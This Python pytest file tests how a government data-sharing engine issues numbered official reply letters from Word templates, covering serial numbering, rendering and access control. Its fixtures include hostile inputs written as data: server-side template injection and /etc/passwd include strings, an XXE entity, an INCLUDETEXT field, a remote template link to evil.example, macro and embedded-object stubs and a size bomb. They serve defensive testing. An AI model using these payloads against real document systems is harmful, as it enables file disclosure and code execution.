"""Official documents: numbered without gaps or doubles, worded by templates that cannot do harm, seen with their case."""

from __future__ import annotations

import hashlib
from concurrent.futures import ThreadPoolExecutor
from io import BytesIO
from typing import Any

import pytest
from docx import Document

from engine.process.interpreter.model import OperationError
from engine.process.tables import Party
from engine.sharing import documents
from engine.store.clock import shanghai
from engine.store.errors import NotAllowed, NotFound
from tests.engine.sharing.registers import Registers
from tests.engine.sharing.wording import part_of, saved, template, with_part

TITLE, NUMBER = "关于共享“{{ name }}”的答复函", "{{ unit.short }}共享函〔{{ year }}〕{{ serial }}号"
LETTER = template(
    "依照{{ article }}，答复如下：", "{{ text|paragraphs }}", "{{ unit.name }}", "{{ issued_at|day }}", title=TITLE, number=NUMBER
)


def issue(registers: Registers, case: int, template: bytes = LETTER, unit: str = "013", **more: Any) -> dict[str, Any]:
    values = {"name": "公租房保障对象", "text": "同意共享。\n\n按人核验。", **more}
    given: dict[str, Any] = registers.call(
        "documents.issue", case, templates={"reply_letter": template}, cited="第十五条", kind="reply_letter", unit=unit, **values
    )
    return given


def words_of(registers: Registers, document: dict[str, Any]) -> list[str]:
    with registers.store.read() as session:
        return documents.document_sheet(session, registers.person("office"), document["id"]).words.splitlines()


def file_of(registers: Registers, document: dict[str, Any]) -> documents.DocumentFile:
    with registers.store.read() as session:
        return documents.document_file(session, registers.person("office"), document["id"])


def test_a_letter_cites_its_article_and_bears_number_title_and_date(registers: Registers) -> None:
    given = issue(registers, registers.case(), at=shanghai("2026-03-02 16:00"))
    assert given["number"] == "住建共享函〔2026〕1号"
    assert given["title"] == "关于共享“公租房保障对象”的答复函"
    assert words_of(registers, given) == [
        "住建共享函〔2026〕1号", "关于共享“公租房保障对象”的答复函", "依照第十五条，答复如下：", "同意共享。", "按人核验。",
        "市住房和城乡建设局", "2026年3月2日",
    ]  # fmt: skip


def test_the_file_that_left_the_house_is_kept_and_the_history_knows_its_digest(registers: Registers) -> None:
    given = issue(registers, registers.case(), at=shanghai("2026-03-02 16:00"))
    file = file_of(registers, given)
    assert file.name == "关于共享“公租房保障对象”的答复函（住建共享函〔2026〕1号）.docx"
    digest = hashlib.sha256(file.docx).hexdigest()
    assert registers.noted == [
        ("documents", {"id": given["id"], "kind": "reply_letter", "number": given["number"], "sha256": digest})
    ]
    written = Document(BytesIO(file.docx))
    assert written.core_properties.title == given["title"]
    assert written.core_properties.author == "市住房和城乡建设局"
    assert [paragraph.text for paragraph in written.paragraphs][2] == "依照第十五条，答复如下："


def test_numbers_run_per_unit_kind_and_year(registers: Registers) -> None:
    def number(at: str, unit: str) -> str:
        return str(issue(registers, registers.case(), unit=unit, at=shanghai(at))["number"])

    assert number("2026-12-30 10:00", "013") == "住建共享函〔2026〕1号"
    assert number("2026-12-30 11:00", "007") == "民政共享函〔2026〕1号"
    assert number("2026-12-31 23:59", "013") == "住建共享函〔2026〕2号"
    assert number("2027-01-01 00:00", "013") == "住建共享函〔2027〕1号"


def test_clerks_at_the_same_time_leave_no_gap_and_no_double(registers: Registers) -> None:
    cases = [registers.case() for _ in range(24)]
    with ThreadPoolExecutor(6) as clerks:
        numbers = [given["number"] for given in clerks.map(lambda case: issue(registers, case), cases)]
    assert sorted(numbers) == sorted(f"住建共享函〔2026〕{serial}号" for serial in range(1, 25))


@pytest.mark.parametrize(
    "broken",
    [
        "{{ nobody_said_this }}",
        "{{ name",
        "{{ name.__class__.__mro__ }}",
        "{{ ''.__class__ }}",
        "{% for n in range(999999999) %}x{% endfor %}",
        "{{ 'x' * 999999999 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ '%999999999d' % 1 }}",
        "{{ name.center(999999999) }}",
        "{{ name|safe }}",
        "{% autoescape false %}{{ name }}{% endautoescape %}",
        "{% include '/etc/passwd' %}",
        "{{ dict.mro() }}",
        "{{ '不是日期' | day }}",
        "{{ 1 / 0 }}",
        "{%p if name %}",
    ],
)
def test_a_template_that_cannot_be_filled_issues_nothing_and_uses_no_number(registers: Registers, broken: str) -> None:
    with pytest.raises(OperationError) as refused:
        issue(registers, registers.case(), template=template(broken))
    assert refused.value.code == "bad-template"
    assert issue(registers, registers.case())["number"] == "住建共享函〔2026〕1号"


def test_what_is_filled_in_cannot_become_markup_or_another_template(registers: Registers) -> None:
    hostile = "</w:t></w:r><w:r><w:instrText>DDEAUTO</w:instrText></w:r> & <b>粗</b> \"'{{ unit.code }}{% raw %}\x00\x07\x0b\ud800"
    given = issue(registers, registers.case(), name=hostile, text=f"一{hostile}\n二")
    shown = hostile[:-4]
    assert given["title"] == f"关于共享“{shown}”的答复函"
    assert words_of(registers, given)[3:5] == [f"一{shown}", "二"]
    assert "<w:instrText>" not in part_of(file_of(registers, given).docx, "word/document.xml")


def test_lines_stay_lines_and_long_texts_stay_whole(registers: Registers) -> None:
    long = "数据" * 50_000
    given = issue(registers, registers.case(), template=template("{{ text }}", cells=("事由", "{{ name }}")), name=long, text="一\r\n二\t三")
    assert words_of(registers, given) == ["一", "二\t三", f"事由\t{long}"]
    assert "<w:br/>" in part_of(file_of(registers, given).docx, "word/document.xml")


def test_lists_and_conditions_stand_as_rows_and_paragraphs(registers: Registers) -> None:
    said = [{"unit": "市司法局", "note": "可以\n共享"}, {"unit": "市保密局", "note": ""}]
    wording = template(
        "{%p if said %}", "意见如下：", "{%p else %}", "没有意见。", "{%p endif %}",
        "{%p for one in said %}", "{{ one.unit }}：{{ one.note or '无' }}", "{%p endfor %}",
        "{{ dict(yes='同意', no='不同意')[answer] }}，{{ fields|listed }}，{{ nothing }}。",
    )  # fmt: skip
    more = {"answer": "yes", "fields": ["姓名", "性别"], "nothing": None}
    given = issue(registers, registers.case(), template=wording, said=said, **more)
    assert words_of(registers, given) == ["意见如下：", "市司法局：可以", "共享", "市保密局：无", "同意，姓名、性别，。"]
    given = issue(registers, registers.case(), template=wording, said=[], **more)
    assert words_of(registers, given) == ["没有意见。", "同意，姓名、性别，。"]


def test_what_a_word_processor_does_to_marks_is_undone(registers: Registers) -> None:
    """It splits them where it checked the spelling, and turns straight quotes into curved ones."""
    document = Document()
    split = document.add_paragraph()
    for piece in ("致{", "{ na", "me }", "}："):
        split.add_run(piece)
    document.add_paragraph("{{ dict(yes=“同意”)[‘yes’] }}“{{ name }}”")
    given = issue(registers, registers.case(), template=saved(document))
    assert words_of(registers, given) == ["致公租房保障对象：", "同意“公租房保障对象”"]


def test_without_their_styles_the_step_gives_the_title_and_the_unit_the_number(registers: Registers) -> None:
    given = issue(registers, registers.case(), template=template("{{ number }}：{{ name }}"))
    assert (given["title"], given["number"]) == ("制发文书", "住建〔2026〕1号")
    assert words_of(registers, given) == ["住建〔2026〕1号：公租房保障对象"]


OUTSIDE = b"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm"
TargetMode="External"/></Relationships>"""
DTD = b'<!DOCTYPE w [<!ENTITY passwords SYSTEM "file:///etc/passwd">]><w>&passwords;</w>'
FIELD = b'<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:p>'


@pytest.mark.parametrize(
    ("file", "why"),
    [
        (b"<h1>no docx</h1>", "无法填写"),
        (b"", "无法填写"),
        (with_part(LETTER, "word/vbaProject.bin", b"Sub AutoOpen()"), "宏"),
        (with_part(LETTER, "word/embeddings/oleObject1.bin", b"MZ"), "嵌入文件"),
        (with_part(LETTER, "word/_rels/settings.xml.rels", OUTSIDE), "文件以外"),
        (with_part(LETTER, "word/comments.xml", DTD), "DOCTYPE"),
        (with_part(LETTER, "word/footnotes.xml", FIELD), "INCLUDETEXT"),
        (with_part(LETTER, "word/media/image1.png", b"\0" * 21_000_000), "过大"),
    ],
    ids=["html", "empty", "macro", "embedded", "outside link", "doctype", "field", "bomb"],
)
def test_a_file_that_is_no_plain_document_is_refused(registers: Registers, file: bytes, why: str) -> None:
    with pytest.raises(OperationError, match=why):
        issue(registers, registers.case(), template=file)


def test_a_document_is_seen_by_those_who_see_its_case(registers: Registers) -> None:
    case = registers.case()
    with registers.store.work() as work:
        work.session.add(Party(instance_id=case, unit_id=registers.units["007"], post=""))
    given = issue(registers, case)
    with registers.store.read() as session:
        for login in ("applicant", "office"):
            (line,) = documents.documents_of(session, registers.person(login), case)
            assert (line.number, line.kind, line.article) == (given["number"], "reply_letter", "第十五条")
            assert documents.document_sheet(session, registers.person(login), given["id"]).line == line
            assert documents.document_file(session, registers.person(login), given["id"]).instance_id == case
        for login in ("outsider", "editor"):
            with pytest.raises(NotAllowed):
                documents.documents_of(session, registers.person(login), case)
            with pytest.raises(NotAllowed):
                documents.document_sheet(session, registers.person(login), given["id"])
            with pytest.raises(NotAllowed):
                documents.document_file(session, registers.person(login), given["id"])
        with pytest.raises(NotFound):
            documents.document_sheet(session, registers.person("office"), given["id"] + 1)
